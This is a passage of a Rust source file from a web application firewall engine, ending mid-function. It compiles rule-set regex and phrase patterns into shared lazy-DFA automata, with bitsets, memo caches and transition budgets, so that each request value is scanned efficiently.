//! Prescanning: every literal `@rx` pattern of the rule set, and every short `@pm` phrase list
//! (as the alternation of its phrases), is compiled into one multi-pattern automaton, so that a
//! request value is scanned once per distinct transformed form instead of once per rule.
//!
//! ```text
//! compile:      (chain, pattern) of every eligible rule part ──▶ one regex-automata set (MatchKind::All)
//!               + per chain: the mask of its patterns; per scope: the chains that look at it
//! transaction:  scope ──each value × its chains' transformations──▶ distinct forms (most values
//!               leave most chains unchanged: one form) ──one scan each──▶ bitset of patterns
//!               rule part ──its pattern's bit in its targets' bitsets──▶ clear: cannot match
//! ```
//!
//! A scope is a variable, or the members of a collection with one key (`REQUEST_HEADERS:Host`).
//! A pattern's bit is set when it matches some member of the scope transformed by the pattern's
//! chain. The bitset covers the whole scope, so it over-approximates what a part with a key
//! pattern or exclusions sees: a clear bit proves the part cannot match and it is skipped; a set
//! bit sends the part through the ordinary per-value evaluation, which decides. Benign traffic
//! clears nearly every bit, so most rules cost a few bit tests. Only parts whose answer is a
//! pure function of request data take part: a literal, non-negated `@rx` on the linear engine or
//! `@pm` that does not match ordinary short values (with `multiMatch`, every variant of a value
//! is scanned), or a check, with no counting and targets whose values do not change within a
//! phase (not `TX`, `MATCHED_VAR`, ...).
//!
//! Operators no automaton takes but whose answer depends on the value alone (`@detectSQLi`,
//! `@detectXSS`, a long `@pmFromFile`, `@validateByteRange`, a negated or backtracking `@rx`,
//! `@rx ^$`, comparisons with a literal argument) take part as *checks*: each has a bit like a
//! pattern's, set by running it on the member's form through its chain. A check runs once per
//! member for all the transactions that see it again (below), instead of once per member in
//! each transaction.
//!
//! Only the rules left in the folded steps (those most transactions run) take part: a pattern
//! of a rule that every transaction on the folded steps skips (CRS's rules above the paranoia
//! level) would make each scan longer for nothing. At paranoia 1, 155 of CRS 4.28.0's 335
//! patterns and checks remain, and a long body, scanned pattern by pattern, is scanned for
//! fewer than half as many.
//!
//! What a short member matches depends on its bytes alone, so each scope remembers it for the
//! members it saw recently (`memo`): a user agent seen before costs a lookup, not a scan. What
//! a collection of many members matches (a JSON body's arguments, or their names, which an
//! API's calls share) is remembered whole, by all its members (`whole`): one lookup, not sixty;
//! and so is what a body of up to 4 KiB matches, which would be scanned once per form.

use std::cell::{Cell, RefCell};
use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;

use regex_automata::hybrid::dfa::{Cache, DFA};
use regex_automata::hybrid::LazyStateID;
use regex_automata::nfa::thompson::{self, WhichCaptures};
use regex_automata::util::syntax;
use regex_automata::{Input, MatchKind, PatternSet};
use smallvec::SmallVec;
use thread_local::ThreadLocal;

use crate::seclang::ast::{Transformation, Variable};

use super::caseless;
use super::compile::{Part, Sel, TargetSpec};
use super::memo::{Limits, Memo};
use super::operator::{NumArg, Op, Regex, Rx};
use super::required::Needles;
use super::transaction::variables::pairs_of;
use super::transform::Features;

/// The prescan automata of a rule set and what their patterns belong to.
#[derive(Debug, Default)]
pub(crate) struct Prescan {
    /// Each pattern alone: for the noisy ones and for long values (see [`Prescan::scan`]),
    /// and the checks.
    probes: Vec<Probe>,
    /// The patterns that are checks.
    checks: Bits,
    /// By chain id: the transformations.
    chains: Vec<Vec<Transformation>>,
    /// The automata, one per distinct set of patterns that some variables are checked with.
    groups: Vec<Group>,
    /// The scopes prescanned parts look at, by number (at most [`MAX_SCOPES`]).
    scopes: Vec<Scanned>,
    /// The numbers of those taken from the request head, whose scans outlive the head.
    head: u64,
    /// How many transitions the automata may compute for a transaction ([`TRANSITIONS`]).
    pub(crate) transitions: usize,
}

/// What a prescanned part's target takes from a variable: the whole collection, or the
/// members with one (lowercase) key. `REQUEST_HEADERS:Content-Type` is scanned apart from
/// `REQUEST_HEADERS`, so that a request's other headers are not scanned for the patterns of
/// rules that only look at its `Content-Type` (and a header it lacks costs nothing).
type Scope = (Variable, Option<String>);

/// The scope of a target (`keyed`: whether keys make scopes of their own).
fn scope(t: &TargetSpec, keyed: bool) -> Scope {
    match &t.sel {
        Sel::Key(k) if keyed => (t.variable, Some(k.clone())),
        _ => (t.variable, None),
    }
}

/// A scope that prescanned parts look at: its automaton group, and the chains of those
/// parts (with whether they are `multiMatch` parts), each with the bits of its patterns.
#[derive(Debug)]
struct Scanned {
    variable: Variable,
    /// The members the scope takes: all, or those with its key.
    sel: Sel,
    group: usize,
    looks: Vec<Look>,
    /// The patterns found in each of its recent short members (see `memo`), `None` for
    /// none: most members of benign requests, whose entries then take no second place in
    /// memory.
    memo: Memo<Option<Box<[u64]>>>,
    /// The patterns found in the whole of a collection of many members, by its contents, or
    /// in a body (see [`Prescan::whole`]): only for a scope of all the members of a collection
    /// of pairs, or of a body.
    whole: Option<Memo<Option<Box<[u64]>>>>,
    /// The [`Plan`]s for the features its members had lately.
    plans: Memo<Plan>,
}

/// How a member with given [`Features`] is scanned: for each distinct rest of chain from the
/// first step that can change such a member, the patterns of the chains ending so
/// (`multiMatch` chains whole, each on its own).
pub(crate) type Plan = Arc<[(Steps, bool, Bits)]>;

/// A chain from one of its steps on: chain id, step index.
pub(crate) type Steps = (usize, usize);

/// Scopes are numbered into a `u64`. Past this many, keys do not make scopes of their own
/// (only [`stable`] variables take part, fewer than this).
const MAX_SCOPES: usize = 64;

/// What a prescanned part needs: its pattern, and the numbers of the scopes its targets take
/// (bits of a `u64`). A part whose pattern is clear in all of their scans cannot match.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Gate {
    pub(crate) pattern: usize,
    pub(crate) scopes: u64,
}

/// A transaction's scans, by pattern: the scopes scanned so far where it matches some
/// member, so that a gate is one load and a mask (`scopes & done`, then `found & scopes`).
/// In cells, read and written through a shared reference: a transaction checks a gate for
/// each of the hundreds of rules a request passes, and a `RefCell` around them counted a
/// borrow each time.
#[derive(Debug)]
pub(crate) struct Scans {
    done: Cell<u64>,
    /// By pattern, the scopes (bits) where it was found.
    found: Vec<Cell<u64>>,
}

/// The most spare [`Scans`] a thread keeps: one for each transaction a worker has open at once
/// (its ready requests, inspected back to back), within reason.
const SPARES: usize = 64;

thread_local! {
    /// The scans of transactions that ended on this thread, for the next ones. A few KiB each
    /// (a word per pattern), which the allocator otherwise took back and handed out again
    /// through its slow path, zeroed, every time: 1.4 % of the gateway's time per WAF'd GET.
    static SPARE_SCANS: RefCell<Vec<Vec<Cell<u64>>>> = const { RefCell::new(Vec::new()) };
}

impl Drop for Scans {
    fn drop(&mut self) {
        let found = std::mem::take(&mut self.found);
        // Not at all while the thread ends (its spares are gone).
        let _ = SPARE_SCANS.try_with(|s| {
            let mut spares = s.borrow_mut();
            if spares.len() < SPARES {
                spares.push(found);
            }
        });
    }
}

impl Scans {
    /// Whether the gate's pattern was found in one of its scopes scanned so far, and which of
    /// its scopes are still to scan.
    #[inline]
    pub(crate) fn check(&self, gate: Gate) -> (bool, u64) {
        (self.found[gate.pattern].get() & gate.scopes != 0, gate.scopes & !self.done.get())
    }

    /// Records the scan of scope `n`: the patterns set in `bits` were found in it.
    pub(crate) fn store(&self, n: usize, bits: &[u64]) {
        for p in ones(bits.iter().copied()) {
            let f = &self.found[p];
            f.set(f.get() | 1 << n);
        }
        self.done.set(self.done.get() | 1 << n);
    }

    /// Forgets the scans of the scopes outside `kept`.
    fn keep(&mut self, kept: u64) {
        let done = self.done.get_mut();
        if *done & !kept != 0 {
            self.found.iter_mut().for_each(|f| *f.get_mut() &= kept);
        }
        *done &= kept;
    }

    /// Forgets every scan.
    pub(crate) fn clear(&mut self) {
        self.keep(0);
    }
}

/// A pattern of the prescan.
#[derive(Debug)]
enum Probe {
    /// A regex (an `@rx`, or a short `@pm` as the alternation of its phrases), joined with the
    /// others into the automata; when it does not tell cases apart, also its lowercase form, to
    /// run alone on a value lowercased (see [`caseless`]). On a 1 KiB body, CRS's
    /// `java-classes.data` takes 0.1 µs so (lowercasing included) against 1.5 µs. Last, the
    /// literals every match contains when they are rarer than those it starts with (see
    /// [`required`]): on a long value, a search for them rules most such patterns out at once.
    Regex(Regex, Option<Regex>, Option<Needles>),
    /// A check: an operator no automaton takes (`@detectSQLi`, a long `@pmFromFile`, a
    /// negated `@rx`, ...) whose answer depends on the value alone, run on each form of a
    /// member, and whether the part is negated. Its bit tells whether the part holds for
    /// some member, as a pattern's tells whether it matches one.
    Check(Arc<Op>, bool),
}

impl Probe {
    /// Whether the probe holds for `value`, given alone (not through the automata). `lower`
    /// keeps `value` lowercased for the next probe that wants it.
    fn holds_alone(&self, value: &[u8], lower: &mut Option<Vec<u8>>) -> bool {
        match self {
            Probe::Regex(_, _, Some(needles)) if value.len() > LONG && !needles.found_in(value) => false,
            Probe::Regex(_, Some(lowercase), _) => {
                lowercase.is_match(lower.get_or_insert_with(|| value.to_ascii_lowercase()))
            }
            _ => self.holds(value),
        }
    }

    /// The probe with the lowercase form of its regex and its required literals, where it has
    /// them: made once per distinct pattern, when the prescan takes it in.
    fn with_shortcuts(self) -> Probe {
        match self {
            Probe::Regex(re, ..) => match caseless::syntax(re.as_str()) {
                Some(hir) => {
                    let lowercase = caseless::lowercase_form(&hir).map(Regex::from);
                    Probe::Regex(re, lowercase, Needles::of(&hir))
                }
                None => Probe::Regex(re, None, None),
            },
            check => check,
        }
    }

    fn holds(&self, value: &[u8]) -> bool {
        match self {
            Probe::Regex(re, ..) => re.is_match(value),
            // A check's argument is literal (see `pure`).
            Probe::Check(op, negated) => op.holds_alone(value).is_some_and(|holds| holds != *negated),
        }
    }
}

/// How parts look at a variable: chain id, `multiMatch`, and the bits of their patterns.
type Look = (usize, bool, Bits);

/// The automata for the patterns some variables are checked with: only those, so that the
/// patterns of other variables report nothing while these are scanned.
#[derive(Debug)]
struct Group {
    /// The quiet patterns joined, the pattern index of each, and their bits.
    quiet: Option<(Joint, Vec<usize>, Bits)>,
    /// The noisy patterns joined, to tell at once that none matches, and their bits.
    noisy: Option<(Joint, Bits)>,
}

/// How many transitions the joint automata may compute for one transaction. A lazy DFA
/// computes a transition the first time a search takes it and keeps it for the next searches,
/// so ordinary traffic soon runs on transitions already there. Computing one means following
/// every pattern of the group from the current state: up to 85 µs for the 160 patterns CRS
/// applies to a parameter. Random bytes need a new transition at nearly every byte: before
/// this budget, a form body of 200-byte random parameters took 4.4 s at 64 KiB (a new transition
/// at each byte, and at times the whole search again on a PikeVM when the DFA gave up). Once a
/// transaction's budget is spent, its values go pattern by pattern, where each pattern's own
/// small automaton copes with such bytes (0.4 µs a byte for all of them).
const TRANSITIONS: usize = 512;

/// Patterns joined into one lazy DFA (`MatchKind::All`), with a cache of its own for each
/// thread that searches with it (why: [`PerThread`](super::per_thread::PerThread)). A search
/// that would compute more transitions than its budget allows gives up (`None`), and the
/// caller takes the patterns alone.
struct Joint {
    dfa: DFA,
    caches: ThreadLocal<RefCell<Cache>>,
}

impl fmt::Debug for Joint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "Joint({} patterns)", self.dfa.pattern_len())
    }
}

impl Joint {
    /// No literal prefilter: one pass of the DFA beats restarting it at every candidate the
    /// literals of hundreds of patterns find in ordinary text. No capture groups are kept.
    /// `None` when the patterns do not compile together.
    fn build(patterns: &[&str]) -> Option<Joint> {
        if patterns.is_empty() {
            return None;
        }
        let dfa = DFA::builder()
            .syntax(syntax::Config::new().utf8(false))
            .thompson(
                thompson::Config::new().utf8(false).which_captures(WhichCaptures::None).nfa_size_limit(Some(512 << 20)),
            )
            .configure(DFA::config().match_kind(MatchKind::All).cache_capacity(128 << 20))
            .build_many(patterns)
            .ok()?;
        Some(Joint { dfa, caches: ThreadLocal::new() })
    }

    fn pattern_len(&self) -> usize {
        self.dfa.pattern_len()
    }

    /// Whether some pattern matches somewhere in `value`.
    fn is_match(&self, value: &[u8], budget: &mut usize) -> Option<bool> {
        self.walk(value, budget, |_, _, _| true)
    }

    /// Adds to `found` every pattern that matches somewhere in `value`.
    fn matches(&self, value: &[u8], budget: &mut usize, found: &mut PatternSet) -> Option<()> {
        self.walk(value, budget, |dfa, cache, sid| {
            for i in 0..dfa.match_len(cache, sid) {
                found.insert(dfa.match_pattern(cache, sid, i));
            }
            false
        })
        .map(|_| ())
    }

    /// Walks the DFA over `value`, calling `at_match` in each match state until it says to
    /// stop; says whether it stopped so.
    fn walk(
        &self,
        value: &[u8],
        budget: &mut usize,
        mut at_match: impl FnMut(&DFA, &Cache, LazyStateID) -> bool,
    ) -> Option<bool> {
        let dfa = &self.dfa;
        let mut cache = self.caches.get_or(|| RefCell::new(dfa.create_cache())).borrow_mut();
        let cache = &mut *cache;
        let mut sid = dfa.start_state_forward(cache, &Input::new(value)).ok()?;
        for &byte in value {
            // A transition not computed yet shows as "unknown" from an untagged state (from a
            // tagged one, a match state, it is computed uncounted: those are few).
            let known = (!sid.is_tagged()).then(|| dfa.next_state_untagged(cache, sid, byte));
            sid = match known {
                Some(next) if !next.is_unknown() => next,
                _ => {
                    if known.is_some() {
                        *budget = budget.checked_sub(1)?;
                    }
                    dfa.next_state(cache, sid, byte).ok()?
                }
            };
            if !sid.is_tagged() {
                continue;
            }
            if sid.is_match() && at_match(dfa, cache, sid) {
                return Some(true);
            }
            if sid.is_dead() {
                return Some(false);
            }
            if sid.is_quit() {
                return None;
            }
        }
        sid = dfa.next_eoi_state(cache, sid).ok()?;
        Some(sid.is_match() && at_match(dfa, cache, sid))
    }
}

/// A value longer than this (a request body), wanted by at most [`ALONE_UP_TO`] patterns, is
/// scanned pattern by pattern: each stops at its first match and skips ahead with its own
/// literal prefilter (or first looks for the literals it requires, [`Needles`]), where the joint
/// automaton walks every byte. With CRS 4.28.0, 15 patterns
/// look at `REQUEST_BODY`: 1.3 µs alone on 1 KiB of JSON, 1.5-2.2 µs for one joint pass. About
/// 200 look at a parameter: on 1 KiB of text 90-160 µs alone, 2-4 µs for the joint passes (the
/// overlapping search included: quiet patterns match at few places). Random bytes cost the
/// joint automata a transition computed at nearly every byte; [`TRANSITIONS`] bounds that, and
/// past it the patterns go alone all the same.
const LONG: usize = 256;

/// See [`LONG`].
const ALONE_UP_TO: usize = 32;

/// Ordinary header, parameter and body values. A pattern that matches one of them somewhere
/// (`['";=\\]`, `\.([^.]+)$`) would match most requests, reporting a match at many positions of
/// the joint automaton's overlapping search: such "noisy" patterns are checked alone, where
/// each stops at its first match. The others, "quiet", share one automaton, which for most
/// values finds nothing and answers in one pass. This only sorts patterns by cost; a pattern in
/// either group gives the same bits.
const BENIGN: &[&[u8]] = &[
    b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    b"gzip, deflate, br",
    b"en-US,en;q=0.9,de;q=0.8",
    b"keep-alive",
    b"application/json; charset=utf-8",
    b"multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
    b"session=3f2a9c1e; theme=dark; lang=en",
    b"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl",
    b"https://www.example.com/shop/cart?item=42&qty=1",
    b"/api/v1/users/42/orders",
    b"127.0.0.1:8080",
    b"2026-11-25T10:41:07Z",
    b"alice.smith@example.com",
    b"+1-202-555-0143",
    b"Please deliver after 5pm. Leave the parcel with the concierge, thanks!",
    b"{\"id\":42,\"name\":\"Alice\",\"tags\":[\"a\",\"b\"]}",
];

/// A bitset of patterns.
pub(crate) type Bits = Box<[u64]>;

/// The patterns found in a member or a scope (kept inline for rule sets of up to 512).
pub(crate) type Found = SmallVec<[u64; 8]>;

impl Prescan {
    /// Assigns every eligible part its pattern index (`Part::prescan`) and compiles the
    /// automaton. When it cannot be built, every part keeps per-rule evaluation. The parts
    /// given are those of the rules most transactions run (see `RuleSet::compile`): a pattern
    /// or check of any other rule would cost every scan for nothing.
    pub(crate) fn build<'a>(parts: impl Iterator<Item = &'a mut Part>) -> Prescan {
        let mut patterns: Vec<(usize, Probe)> = Vec::new();
        let mut members: Vec<(&'a mut Part, usize)> = Vec::new();
        for part in parts {
            let Some(probe) = eligible(part) else { continue };
            let same = |(c, p): &(usize, Probe)| match (p, &probe) {
                (Probe::Regex(p, ..), Probe::Regex(re, ..)) => *c == part.chain_id && p.as_str() == re.as_str(),
                _ => false,
            };
            let index = match patterns.iter().position(same) {
                Some(i) => i,
                None => {
                    patterns.push((part.chain_id, probe.with_shortcuts()));
                    patterns.len() - 1
                }
            };
            members.push((part, index));
        }
        let words = patterns.len().div_ceil(64);
        // Keys make scopes of their own while the scopes fit in a `u64`.
        let keyed_scopes: std::collections::HashSet<Scope> =
            members.iter().flat_map(|(p, _)| p.targets.iter().map(|t| scope(t, true))).collect();
        let keyed = keyed_scopes.len() <= MAX_SCOPES;
        let mut chains: Vec<Vec<Transformation>> = Vec::new();
        let mut lists: HashMap<Scope, Vec<Look>> = HashMap::new();
        for (part, index) in &members {
            if chains.len() <= part.chain_id {
                chains.resize(part.chain_id + 1, Vec::new());
            }
            chains[part.chain_id].clone_from(&part.transforms);
            for t in &part.targets {
                let list = lists.entry(scope(t, keyed)).or_default();
                let key = (part.chain_id, part.multi_match);
                let at = match list.iter().position(|(c, m, _)| (*c, *m) == key) {
                    Some(at) => at,
                    None => {
                        list.push((key.0, key.1, zeros(words)));
                        list.len() - 1
                    }
                };
                set(&mut list[at].2, *index);
            }
        }
        let noisy: Vec<bool> = patterns
            .iter()
            .map(|(_, p)| match p {
                Probe::Regex(p, ..) => BENIGN.iter().any(|v| p.original().is_match(v)),
                Probe::Check(..) => false,
            })
            .collect();
        let mut checks = zeros(words);
        for (i, _) in patterns.iter().enumerate().filter(|(_, (_, p))| matches!(p, Probe::Check(..))) {
            set(&mut checks, i);
        }
        // A variable checked with a subset of another's patterns (REQUEST_COOKIES_NAMES beside
        // ARGS) shares its automaton: a few extra patterns cost less than another automaton and
        // its caches. Merging sets that are merely close was measured slower (more patterns
        // report matches that the masks then drop). Largest sets first.
        let mut lists: Vec<(Scope, Vec<Look>, Bits)> = lists
            .into_iter()
            .map(|(scope, list)| {
                let mut union = zeros(words);
                for (_, _, mask) in &list {
                    union.iter_mut().zip(mask.iter()).for_each(|(a, b)| *a |= b);
                }
                (scope, list, union)
            })
            .collect();
        lists.sort_by_key(|(scope, _, union)| (std::cmp::Reverse(ones(union.iter().copied()).count()), scope.clone()));
        let mut unions: Vec<Bits> = Vec::new();
        let mut assigned = Vec::new();
        for (scope, list, union) in lists {
            let within = |u: &Bits| union.iter().zip(u.iter()).all(|(a, b)| a & !b == 0);
            let group = match unions.iter().position(within) {
                Some(g) => g,
                None => {
                    unions.push(union);
                    unions.len() - 1
                }
            };
            assigned.push((scope, group, list));
        }
        let mut groups = Vec::with_capacity(unions.len());
        for union in &unions {
            let regexes = ones(union.iter().copied()).filter(|&i| !has(&checks, i));
            let (noisy_ids, quiet_ids): (Vec<usize>, Vec<usize>) = regexes.partition(|&i| noisy[i]);
            let Some(group) = Group::build(&patterns, quiet_ids, noisy_ids, words) else {
                return Prescan::default();
            };
            groups.push(group);
        }
        if assigned.len() > MAX_SCOPES {
            return Prescan::default();
        }
        let number = |t: &TargetSpec| assigned.iter().position(|(s, ..)| *s == scope(t, keyed)).unwrap_or(0);
        for (part, pattern) in members {
            let scopes = part.targets.iter().fold(0u64, |m, t| m | 1 << number(t));
            part.prescan = Some(Gate { pattern, scopes });
        }
        let scopes: Vec<Scanned> = assigned
            .into_iter()
            .map(|((variable, key), group, looks)| {
                let whole = (key.is_none() && (pairs_of(variable).is_some() || a_body(variable)))
                    .then(|| Memo::with_limits(Limits::WHOLE));
                let sel = key.map_or(Sel::All, Sel::Key);
                Scanned { variable, sel, group, looks, memo: Memo::default(), whole, plans: Memo::default() }
            })
            .collect();
        let head =
            scopes.iter().enumerate().filter(|(_, s)| from_request_head(s.variable)).fold(0, |m, (n, _)| m | 1 << n);
        let probes = patterns.into_iter().map(|(_, p)| p).collect();
        Prescan { probes, checks, chains, groups, scopes, head, transitions: TRANSITIONS }
    }

    /// How many `u64`s a bitset of patterns takes.
    pub(crate) fn words(&self) -> usize {
        self.probes.len().div_ceil(64)
    }

    /// No pattern found yet. Zeroed in place: from `SmallVec::from_elem`, a `memset` call of
    /// a few words read back at once in wider pieces, it stalled on the store buffer.
    pub(crate) fn nothing_found(&self) -> Found {
        match self.words() {
            words @ 0..=8 => Found::from_buf_and_len([0; 8], words),
            words => Found::from_elem(0, words),
        }
    }

    /// Room for a transaction's scans: a spare one of this thread's, zeroed, when it has one.
    pub(crate) fn scans(&self) -> Scans {
        let mut found = SPARE_SCANS.try_with(|s| s.borrow_mut().pop()).ok().flatten().unwrap_or_default();
        found.clear();
        found.resize(self.probes.len(), Cell::new(0));
        Scans { done: Cell::new(0), found }
    }

    /// Forgets the scans of the scopes that loading a body or a response may change: all but
    /// those of the request head.
    pub(crate) fn forget_body(&self, scans: &mut Scans) {
        scans.keep(self.head);
    }

    /// Scope `n`: its variable, which of its members it takes, and its automaton group.
    pub(crate) fn scope(&self, n: usize) -> (Variable, &Sel, usize) {
        let s = &self.scopes[n];
        (s.variable, &s.sel, s.group)
    }

    /// What recent members of scope `n` were found to match, by member.
    pub(crate) fn memo(&self, n: usize) -> &Memo<Option<Box<[u64]>>> {
        &self.scopes[n].memo
    }

    /// What the whole of a collection in scope `n` was found to match, by its contents: the
    /// members one after the other, each after its length. A client that sends one document
    /// again (an API's argument names, the same for every call; a retry; a flood) costs one
    /// lookup for the scope instead of one for each member (a JSON body's sixty). For a body
    /// (`REQUEST_BODY`), by the body: one lookup instead of a scan per form (1 KiB of JSON
    /// three times over). `None` for a scope that is not all of a collection of pairs or a
    /// body.
    pub(crate) fn whole(&self, n: usize) -> Option<&Memo<Option<Box<[u64]>>>> {
        self.scopes[n].whole.as_ref()
    }

    /// How many whole collections the scopes' memos keep (this thread's shards).
    #[cfg(test)]
    pub(crate) fn kept_whole(&self) -> usize {
        self.scopes.iter().filter_map(|s| s.whole.as_ref()).map(Memo::kept).sum()
    }

    /// How members of scope `n` with these features are scanned (see [`Plan`]): chains that
    /// give such a member the same form (their steps that can change it are the same) are
    /// scanned once, for the patterns of all.
    pub(crate) fn plan(&self, n: usize, features: Features) -> Plan {
        let scope = &self.scopes[n];
        scope.plans.get_or(&features.bits().to_le_bytes(), || {
            let mut plan: Vec<(Steps, bool, Bits)> = Vec::new();
            for &(c, multi, ref mask) in &scope.looks {
                let chain = &self.chains[c];
                let first = match multi {
                    true => 0,
                    false => features.first_change(chain),
                };
                let same = plan.iter_mut().find(|(at, m, _)| !m && !multi && self.steps(*at) == &chain[first..]);
                match same {
                    Some((_, _, bits)) => bits.iter_mut().zip(mask.iter()).for_each(|(a, b)| *a |= b),
                    None => plan.push(((c, first), multi, mask.clone())),
                }
            }
            plan.into()
        })
    }

    /// The transformations of chain `c` from step `first` on.
    pub(crate) fn steps(&self, (c, first): Steps) -> &[Transformation] {
        &self.chains[c][first..]
    }

    /// Sets in `bits` the patterns of `mask` that match somewhere in `value`, a member of a
    /// variable of `group` (and the checks of `mask` that hold for it). `budget` is what is left
    /// of the transaction's transitions ([`TRANSITIONS`]).
    pub(crate) fn scan(
        &self,
        group: usize,
        value: &[u8],
        mask: &[u64],
        budget: &mut usize,
        found: &mut PatternSet,
        bits: &mut [u64],
    ) {
        if value.len() > LONG && ones(mask.iter().copied()).nth(ALONE_UP_TO).is_none() {
            self.scan_alone(value, mask.iter().copied(), bits);
            return;
        }
        self.scan_alone(value, both(mask, &self.checks), bits);
        let group = &self.groups[group];
        if let Some((joint, noisy)) = &group.noisy {
            if joint.is_match(value, budget) != Some(false) {
                self.scan_alone(value, both(mask, noisy), bits);
            }
        }
        let Some((joint, ids, quiet)) = &group.quiet else { return };
        found.clear();
        // `is_match` first, though `matches` alone would answer too: measured, one walk of
        // `matches` for every value made GET* and POST* (new values) 5 % slower.
        let scanned = match joint.is_match(value, budget) {
            Some(false) => return,
            Some(true) => joint.matches(value, budget, found),
            None => None,
        };
        if scanned.is_none() {
            self.scan_alone(value, both(mask, quiet), bits);
            return;
        }
        for p in found.iter().map(|p| ids[p.as_usize()]) {
            if has(mask, p) {
                set(bits, p);
            }
        }
    }

    /// Runs the wanted patterns and checks one by one, those not already found.
    fn scan_alone(&self, value: &[u8], wanted: impl Iterator<Item = u64>, bits: &mut [u64]) {
        let mut lower = None;
        for p in ones(wanted) {
            if !has(bits, p) && self.probes[p].holds_alone(value, &mut lower) {
                set(bits, p);
            }
        }
    }

    /// A pattern set for [`Prescan::scan`].
    pub(crate) fn pattern_set(&self) -> PatternSet {
        let quiet = self.groups.iter().filter_map(|g| g.quiet.as_ref());
        PatternSet::new(quiet.map(|(joint, ..)| joint.pattern_len()).max().unwrap_or(0))
    }
}

/// The bits set in both.
fn both<'a>(a: &'a [u64], b: &'a [u64]) -> impl Iterator<Item = u64> + 'a {
    a.iter().zip(b.iter()).map(|(a, b)| a & b)
}

/// The indexes of the set bits.
fn ones(words: impl Iterator<Item = u64>) -> impl Iterator<Item = usize> {
    words.enumerate().flat_map(|(w, mut m)| {
        std::iter::from_fn(move || {
            let b = (m != 0).then(|| m.trailing_zeros() as usize)?;
            m &= m - 1;
            Some(w * 64 + b)
        })
    })
}

fn zeros(words: usize) -> Bits {
    vec![0; words].into_boxed_slice()
}

fn set(bits: &mut [u64], index: usize) {
    bits[index / 64] |= 1 << (index % 64);
}

/// Whether a bit is set.
pub(crate) fn has(bits: &[u64], index: usize) -> bool {
    bits.get(index / 64).is_some_and(|w| w & (1 << (index % 64)) != 0)
}

/// How a part may be prescanned: a literal, non-negated `@rx` on the linear engine, or a
/// short `@pm` as the alternation of its phrases, join the automata; the other operators that
/// cost a walk over each value and depend on it alone are checks.
fn eligible(part: &Part) -> Option<Probe> {
    let op = part.op.as_ref()?;
    if part.targets.is_empty() || !part.targets.iter().all(|t| !t.count && stable(t.variable)) {
        return None;
    }
    // A pattern (or check) that holds for ordinary short values (`.`, `^[^;\s]+`,
    // `!@rx ^\d+$`) holds for nearly every value, so its bit would always be set (and a
    // pattern would report a match at nearly every position of every scan): it is left to
    // per-rule evaluation.
    let ordinary = [&b""[..], b"a", b"0", b"id", b"42"];
    let regex: Option<&regex::bytes::Regex> = match &**op {
        Op::Rx(Rx::Linear(re) | Rx::Small(re, _)) => Some(re.original()),
        Op::Pm(phrases) => phrases.regex.as_ref(),
        _ => None,
    };
    if let Some(re) = regex.filter(|_| !part.negated) {
        if !ordinary.iter().any(|v| re.is_match(v)) {
            return Some(Probe::Regex(re.clone().into(), None, None));
        }
    }
    if !pure(op) {
        return None;
    }
    // On variables of one value (`REQUEST_LINE`, a header by name) a check runs once per
    // value seen, remembered, however often it holds: CRS's negated validators
    // (`!@rx <a valid request line>`) hold for "a" and "42" but not for real request lines,
    // and most requests then skip their rules. On a collection it runs on every member of
    // every scan, so it must not hold for ordinary values. An empty value is no ordinary value
    // to a check: `@rx ^$` (an empty header) and `!@rx ^\w+$` hold for it alone.
    let check = Probe::Check(op.clone(), part.negated);
    let one_value = part.targets.iter().all(|t| !t.variable.is_collection() || matches!(t.sel, Sel::Key(_)));
    (one_value || !ordinary[1..].iter().any(|v| check.holds(v))).then_some(check)
}

/// Operators whose answer depends on the value alone (no macros, no state).
fn pure(op: &Op) -> bool {
    match op {
        Op::Str(_, arg) => arg.as_literal().is_some(),
        Op::Num(_, arg) => matches!(arg, NumArg::Literal(_)),
        Op::RxMacro(_) | Op::Always | Op::Never => false,
        Op::Rx(_)
        | Op::Pm(_)
        | Op::IpMatch(_)
        | Op::DetectSqli(_)
        | Op::DetectXss(_)
        | Op::ValidateByteRange(_)
        | Op::ValidateUrlEncoding
        | Op::ValidateUtf8Encoding => true,
    }
}

/// Variables of one value that is a whole body, often too long for the memo of short values.
fn a_body(v: Variable) -> bool {
    matches!(v, Variable::RequestBody | Variable::ResponseBody)
}

/// Variables whose values only change when the transaction loads request or response data
/// (when the prescan bitsets are dropped), never while rules run.
fn stable(v: Variable) -> bool {
    use Variable as V;
    from_request_head(v)
        || matches!(
            v,
            V::Args
                | V::ArgsPost
                | V::ArgsNames
                | V::ArgsPostNames
                | V::ResponseHeaders
                | V::ResponseHeadersNames
                | V::MultipartPartHeaders
                | V::Files
                | V::FilesNames
                | V::MultipartFilename
                | V::MultipartName
                | V::FilesTmpContent
                | V::Xml
                | V::RequestBody
                | V::FullRequest
                | V::ResponseBody
                | V::ResponseProtocol
                | V::ResponseContentType
        )
}

/// Whether a variable only takes its values from the request line and headers
/// (`load_request`): they do not change once phase 1 begins, so its bitset is kept when the
/// request body or the response is loaded.
fn from_request_head(v: Variable) -> bool {
    use Variable as V;
    matches!(
        v,
        V::ArgsGet
            | V::ArgsGetNames
            | V::RequestHeaders
            | V::RequestHeadersNames
            | V::RequestCookies
            | V::RequestCookiesNames
            | V::QueryString
            | V::RequestBasename
            | V::RequestFilename
            | V::PathInfo
            | V::RequestLine
            | V::RequestMethod
            | V::RequestProtocol
            | V::RequestUri
            | V::RequestUriRaw
    )
}

impl Group {
    /// `None` when an automaton cannot be built.
    fn build(patterns: &[(usize, Probe)], quiet: Vec<usize>, noisy: Vec<usize>, words: usize) -> Option<Group> {
        let regex = |&i: &usize| match &patterns[i].1 {
            Probe::Regex(re, ..) => Some(re.as_str()),
            Probe::Check(..) => None,
        };
        let joint = |ids: &[usize]| Joint::build(&ids.iter().filter_map(regex).collect::<Vec<_>>());
        let bits = |ids: &[usize]| {
            let mut bits = zeros(words);
            ids.iter().for_each(|&i| set(&mut bits, i));
            bits
        };
        let quiet = match quiet.is_empty() {
            true => None,
            false => {
